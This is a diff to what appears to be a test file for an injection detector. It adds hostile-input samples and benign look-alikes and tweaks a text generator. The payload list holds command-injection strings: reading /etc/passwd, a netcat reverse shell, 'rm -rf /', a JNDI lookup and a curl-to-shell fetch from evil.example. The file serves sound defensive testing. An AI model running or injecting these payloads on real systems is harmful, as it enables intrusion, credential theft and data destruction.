@@ -38,7 +38,11 @@ PAYLOADS = [
     "#{7*7}",
     "${${lower:j}ndi:ldap://evil.example/a}",
     "&& whoami",
-    "x; id",
+    "; id",
+    "name$(whoami)",
+    "x || uname -a",
+    "| cat /etc/passwd",
+    "&& curl http://evil.example/x | sh",
     "$(uname -a)",
     "nc 10.0.0.1 4444 -e /bin/sh",
     "; rm -rf / --no-preserve-root",
@@ -70,6 +74,13 @@ ORDINARY = [
     "if [ -f /etc/os-release ]; then . /etc/os-release; fi",
     "Price: $(10) is wrong, should be ${price}",
     '<p>Hello <b>team</b>, see <a href="https://example.com">the report</a>.</p>',
+    "Order results by name; id",
+    "Fix the 'legacy'--now unused--path",
+    "She said 'no'--and meant it",
+    'Our script:\n\nOWNER=$(whoami)\nSTAMP="$(whoami)@$(hostname)"\n',
+    "; settings.ini\n[core]\nname = demo\n",
+    "; id of the user, as the old tool printed it",
+    "Then run cat /etc/passwd | less to see the accounts",
 ]
 
 
@@ -99,7 +110,7 @@ WORDS = (  # noqa: SIM905 -- a vocabulary reads better as text
     "docs java javascript template html sql shell 1 2 42 7 2026 v1.4.2"
 ).split()
 CONTRACTIONS = ["we'll", "don't", "it's", "user's", "can't", "o'clock"]
-SEPARATORS = [" ", " ", " ", ", ", ". ", "; ", ": ", "! ", "? ", " - ", " -- ", " / ", " & "]
+SEPARATORS = [" ", " ", " ", ", ", ". ", "; ", ": ", "! ", "? ", " - ", " -- ", "--", " / ", " & "]
 
 
 @st.composite
@@ -110,13 +121,17 @@ def prose(draw: st.DrawFn) -> str:
     words = draw(st.lists(st.sampled_from(WORDS + CONTRACTIONS), min_size=1, max_size=40))
     text = ""
     for index, word in enumerate(words):
-        shape = draw(st.sampled_from(["plain"] * 6 + ["capital", "upper", "quoted", "aside"]))
+        shape = draw(
+            st.sampled_from(["plain"] * 6 + ["capital", "upper", "quoted", "single", "aside"])
+        )
         if shape == "capital":
             word = word.capitalize()
         elif shape == "upper":
             word = word.upper()
         elif shape == "quoted":
             word = f'"{word}"'
+        elif shape == "single":
+            word = f"'{word}'"
         elif shape == "aside":
             word = f"({word})"
         text += word if index == 0 else draw(st.sampled_from(SEPARATORS)) + word
